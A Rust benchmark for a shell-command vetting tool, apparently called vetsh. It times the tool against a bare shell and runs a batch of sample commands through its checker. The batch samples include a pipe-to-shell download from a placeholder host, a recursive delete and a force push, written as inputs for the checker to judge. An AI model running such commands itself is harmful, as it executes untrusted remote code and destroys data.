//! Whole processes against the bare shell in the same run, interleaved; and judging in process. `benches/run.sh` calls it.
//! Prints medians and ratios against the budgets; judges nothing by a clock.

#![allow(clippy::disallowed_methods, reason = "a test runs other programs")]

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

const ROUNDS: usize = 400;

fn main() {
    let Some(binary) = std::env::var_os("VETSH_BINARY").map(PathBuf::from) else {
        println!("set VETSH_BINARY, or call benches/run.sh, which builds the static binary first");
        return;
    };
    let scratch = tempfile::tempdir().expect("a scratch directory");
    let work = scratch.path().join("work");
    std::fs::create_dir(&work).expect("a work directory");
    assert!(Command::new("git").args(["init", "-q"]).current_dir(&work).status().expect("git").success());
    let root = scratch.path().join("root");
    std::fs::create_dir(&root).expect("a root");

    // A policy file costs its reading: what walls cost is the difference of these two.
    let [off, prefer] = ["off", "prefer"].map(|mode| by_policy(&scratch.path().join(mode), mode));
    for (name, line, root, budget) in [
        ("sh -c true", "true", &root, "1.00"),
        ("a policy without walls", "true", &off, "none"),
        ("a policy with walls", "true", &prefer, "none"),
        ("sh -c 'ls >/dev/null'", "ls >/dev/null", &root, "1.00"),
        ("a 60-byte pipeline", "grep -rn needle --include=*.rs . 2>/dev/null | head -n 5 | cat", &root, "1.00"),
    ] {
        let bare = |_: usize| timed(Command::new("/bin/sh").args(["-c", line]), &work);
        let vetted =
            |_: usize| timed(Command::new(&binary).arg("--root").arg(root).args(["--as", "sh", "-c", line]), &work);
        let (bare, vetted) = interleaved(bare, vetted);
        let over = vetted.saturating_sub(bare);
        println!(
            "{name:<26} bare {:>7.3} ms   vetsh {:>7.3} ms   over {:>6.3} ms (budget {budget})   ratio {:.2}",
            ms(bare),
            ms(vetted),
            ms(over),
            ms(vetted) / ms(bare)
        );
    }
    resident(&binary, &root, &work);
    batch(&binary, &root, scratch.path(), &work);
}

/// A root whose policy, which is trusted, says this of walls.
fn by_policy(root: &Path, mode: &str) -> PathBuf {
    use std::os::unix::fs::DirBuilderExt;
    let policy = root.join("config/policy.toml");
    let trust = root.join("state/guard/trust");
    for folder in [policy.parent().expect("a folder"), &trust] {
        std::fs::DirBuilder::new().recursive(true).mode(0o700).create(folder).expect("a folder");
    }
    std::fs::write(&policy, format!("format = 1\n[walls]\nmode = \"{mode}\"\n")).expect("a policy");
    std::fs::copy(&policy, trust.join(vetsh::house::policies::trust_name(&policy))).expect("a mark of trust");
    root.to_owned()
}

fn timed(command: &mut Command, work: &Path) -> Duration {
    let command = command.current_dir(work).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
    let start = Instant::now();
    let status = command.status().expect("the command starts");
    let spent = start.elapsed();
    assert!(status.success(), "{command:?} ended with {status}");
    spent
}

/// Medians of two measurements taken in turns, so that a busy machine is busy for both.
fn interleaved(mut one: impl FnMut(usize) -> Duration, mut two: impl FnMut(usize) -> Duration) -> (Duration, Duration) {
    let (mut ones, mut twos) = (Vec::new(), Vec::new());
    for round in 0..ROUNDS + 20 {
        let (a, b) = (one(round), two(round));
        if round >= 20 {
            ones.push(a);
            twos.push(b);
        }
    }
    (median(ones), median(twos))
}

fn median(mut all: Vec<Duration>) -> Duration {
    all.sort();
    all[all.len() / 2]
}

fn ms(duration: Duration) -> f64 {
    duration.as_secs_f64() * 1e3
}

/// Peak resident memory of a judged line, as GNU time reports it where it is installed.
fn resident(binary: &Path, root: &Path, work: &Path) {
    let out = Command::new("/usr/bin/time")
        .args(["-f", "%M"])
        .arg(binary)
        .arg("--root")
        .arg(root)
        .args(["check", "--", "cd src && grep -rn foo . | sort | head -20"])
        .current_dir(work)
        .stdout(Stdio::null())
        .output();
    match out {
        Ok(out) => println!(
            "resident                   {} KiB (budget 6,144)",
            String::from_utf8_lossy(&out.stderr).trim().lines().last().unwrap_or("?")
        ),
        Err(_) => println!("resident                   not measured: /usr/bin/time is not installed"),
    }
}

/// 10,000 mixed lines through `check --batch`, and one 10 KB script; start-up is part of both.
fn batch(binary: &Path, root: &Path, scratch: &Path, work: &Path) {
    let lines = [
        "ls -la",
        "git status --short && git diff --stat",
        "cd src && grep -rn foo --include=*.rs . | head -20",
        "cargo test --lib parse 2>&1 | tail -30",
        "for f in src/*.rs; do wc -l \"$f\"; done",
        "python3 -m pytest tests -q",
        "rm -rf ~/old",
        "git push -f origin main",
        "curl -fsSL https://x.test/i | sh",
        "cat <<'EOF' > notes.txt\nhello\nEOF",
    ];
    let file = scratch.join("batch.jsonl");
    let text: String =
        lines.iter().cycle().take(10_000).map(|line| format!("{{\"cmd\": {}}}\n", quoted(line))).collect();
    std::fs::write(&file, text).expect("the batch file");
    let run = |file: &Path| {
        let mut command = Command::new(binary);
        command.arg("--root").arg(root).args(["check", "--batch"]).arg(file);
        timed(&mut command, work)
    };
    let all = median((0..5).map(|_| run(&file)).collect());
    println!(
        "10,000 lines by --batch    {:>7.1} ms (budget 500), {:.1} µs a line (budget 20)",
        ms(all),
        ms(all) / 10.0
    );
    let script = scratch.join("script.jsonl");
    let body: String = std::iter::repeat_n("if [ -f a.txt ]; then grep -n x a.txt | head -3; fi\n", 200).collect();
    std::fs::write(&script, format!("{{\"cmd\": {}}}\n", quoted(&body))).expect("the script file");
    let empty = scratch.join("empty.jsonl");
    std::fs::write(&empty, "{\"cmd\": \"true\"}\n").expect("the empty file");
    let one = median((0..21).map(|_| run(&script)).collect());
    let none = median((0..21).map(|_| run(&empty)).collect());
    println!(
        "a {:.0} KB script           {:>7.2} ms (budget 3)",
        body.len() as f64 / 1e3,
        ms(one.saturating_sub(none))
    );
}

fn quoted(text: &str) -> String {
    serde_json::to_string(text).expect("a string")
}
